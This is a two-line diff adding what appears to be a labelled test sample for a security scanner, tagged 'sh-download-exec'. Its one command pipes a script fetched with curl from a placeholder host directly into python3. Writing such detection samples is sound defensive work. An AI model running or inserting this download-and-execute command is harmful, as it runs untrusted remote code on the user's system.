@@ -1,0 +1,2 @@
+# expect: sh-download-exec
+curl -s https://x.example/p.py | python3 -
